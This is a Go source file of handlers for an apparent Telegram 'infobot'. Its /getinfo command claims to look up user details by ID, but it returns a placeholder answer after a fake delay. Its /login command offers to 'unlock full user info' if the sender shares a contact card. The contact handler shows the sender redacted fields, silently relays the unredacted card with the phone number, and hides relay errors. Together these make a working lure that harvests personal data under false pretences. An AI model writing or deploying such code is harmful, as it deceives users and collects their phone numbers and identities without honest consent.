// Package handlers implements the bot commands and the contact flow.
package handlers

import (
	"context"
	"log/slog"
	"time"

	"github.com/m3rciful/infobot/app/compose"
	"github.com/m3rciful/infobot/core/logger"
	tg "github.com/m3rciful/infobot/core/telegram"
	"github.com/m3rciful/infobot/core/telegram/commands"
	"github.com/m3rciful/infobot/core/telegram/cooldown"
	tghelpers "github.com/m3rciful/infobot/core/telegram/helpers"
	"github.com/m3rciful/infobot/core/telegram/middleware"
	"github.com/m3rciful/infobot/core/telegram/router"
	"github.com/m3rciful/infobot/core/telegram/state"

	tele "gopkg.in/telebot.v4"
)

// StateAwaitingUserID tags the follow-up step armed by /getinfo.
const StateAwaitingUserID state.State = "getinfo.user_id"

// Forwarder relays a shared contact card. *relay.Notifier satisfies it.
type Forwarder interface {
	Forward(ctx context.Context, from compose.Identity, c compose.Contact) error
}

// Deps are the collaborators of the handlers.
type Deps struct {
	Cooldown *cooldown.Limiter
	State    state.Manager
	Relay    Forwarder
	Picker   compose.Picker
	// Delay simulates lookup latency in the fetch and contact flows.
	Delay time.Duration
	// Sleep defaults to time.Sleep.
	Sleep func(time.Duration)
	// Now feeds the cooldown; defaults to time.Now.
	Now func() time.Time
	// OnHandled observes finished handlers, e.g. the journal.
	OnHandled router.HandledFunc
}

// Handlers groups the bot handlers over shared state.
type Handlers struct {
	deps Deps
}

// New builds the handlers and binds the /getinfo follow-up step on deps.State.
func New(deps Deps) *Handlers {
	if deps.Sleep == nil {
		deps.Sleep = time.Sleep
	}
	if deps.Picker == nil {
		deps.Picker = compose.NewPicker(time.Now().UnixNano())
	}
	if deps.Cooldown == nil {
		deps.Cooldown = cooldown.New(5 * time.Second)
	}
	if deps.State == nil {
		deps.State = state.NewMemoryManager()
	}
	h := &Handlers{deps: deps}
	deps.State.Handle(StateAwaitingUserID, router.Summarized("getinfo_reply", deps.OnHandled, h.FetchInfo))
	return h
}

// State returns the conversation state manager.
func (h *Handlers) State() state.Manager { return h.deps.State }

// Register adds all commands to reg.
func (h *Handlers) Register(reg *tg.Registry) {
	reg.RegisterCommand("/start", commands.Command{Handler: h.Start, Description: "Begin your journey with the bot"})
	reg.RegisterCommand("/help", commands.Command{Handler: h.Help, Description: "Show the help message"})
	reg.RegisterCommand("/getinfo", commands.Command{
		Handler:     h.GetInfo,
		Description: "Fetch user details by User ID",
		Middleware: []tele.MiddlewareFunc{middleware.Cooldown(h.deps.Cooldown, middleware.CooldownOptions{
			Action:   "getinfo",
			OnDenied: h.GetInfoDenied,
			Now:      h.deps.Now,
		})},
	})
	reg.RegisterCommand("/login", commands.Command{Handler: h.Login, Description: "Unlock full user info"})
	reg.RegisterCommand("/cancel", commands.Command{Handler: h.Cancel, Description: "Cancel and remove the keyboard"})
	reg.RegisterCommand("/restart", commands.Command{Handler: h.Start, Description: "Show the welcome message again"})
}

// Routes returns the contact route and the silent fall-through routes.
func (h *Handlers) Routes() []tg.Route {
	routes := []tg.Route{router.ContactRoute(h.Contact, h.deps.OnHandled)}
	return append(routes, router.TextRoutes(router.TextOptions{})...)
}

// Start greets the sender. /restart shares it.
func (h *Handlers) Start(c tele.Context) error {
	return tghelpers.ReplyMD(c, compose.Start(compose.IdentityOf(c.Sender())))
}

// Help lists the commands.
func (h *Handlers) Help(c tele.Context) error {
	return tghelpers.ReplyMD(c, compose.Help())
}

// GetInfo prompts for a user id and arms the follow-up step. It runs behind the cooldown.
func (h *Handlers) GetInfo(c tele.Context) error {
	if err := tghelpers.ReplyMD(c, compose.Prompt()); err != nil {
		return err
	}
	h.deps.State.Await(c.Sender().ID, StateAwaitingUserID)
	return nil
}

// GetInfoDenied tells the sender how long to wait.
func (h *Handlers) GetInfoDenied(c tele.Context, d cooldown.Decision) error {
	return tghelpers.ReplyMD(c, compose.Wait(d.Wait))
}

// FetchInfo answers the follow-up message with the placeholder lookup result
// whatever id it carries.
func (h *Handlers) FetchInfo(c tele.Context) error {
	if err := h.simulateWork(c, compose.FetchPreamble(h.deps.Picker)); err != nil {
		return err
	}
	return tghelpers.ReplyMD(c, compose.Info())
}

// Login asks the sender to share their contact card.
func (h *Handlers) Login(c tele.Context) error {
	r := compose.Login()
	return tghelpers.ReplyMD(c, r.Text, r.Markup)
}

// Cancel confirms and removes the keyboard.
func (h *Handlers) Cancel(c tele.Context) error {
	r := compose.Cancel()
	return tghelpers.ReplyMD(c, r.Text, r.Markup)
}

// Contact acknowledges a shared contact card with redacted fields and relays
// the unredacted card. Relay failures are logged, never shown to the sender.
func (h *Handlers) Contact(c tele.Context) error {
	msg := c.Message()
	if msg == nil || msg.Contact == nil {
		return nil
	}
	from := compose.IdentityOf(c.Sender())
	card := compose.ContactOf(msg.Contact)

	if err := h.simulateWork(c, compose.ContactPreamble(h.deps.Picker)); err != nil {
		return err
	}
	if err := tghelpers.ReplyMD(c, compose.Success()); err != nil {
		return err
	}

	if h.deps.Relay == nil {
		return nil
	}
	ctx := tghelpers.BuildContext(c)
	if err := h.deps.Relay.Forward(ctx, from, card); err != nil {
		logger.Error(ctx, "relay", "relay.fail",
			slog.String("status", "fail"),
			slog.Int64("user_id", from.ID),
			slog.String("err", logger.RedactToken(err.Error())),
		)
	}
	return nil
}

func (h *Handlers) simulateWork(c tele.Context, preamble string) error {
	if err := tghelpers.ReplyMD(c, preamble); err != nil {
		return err
	}
	tghelpers.Typing(c)
	if h.deps.Delay > 0 {
		h.deps.Sleep(h.deps.Delay)
	}
	return nil
}
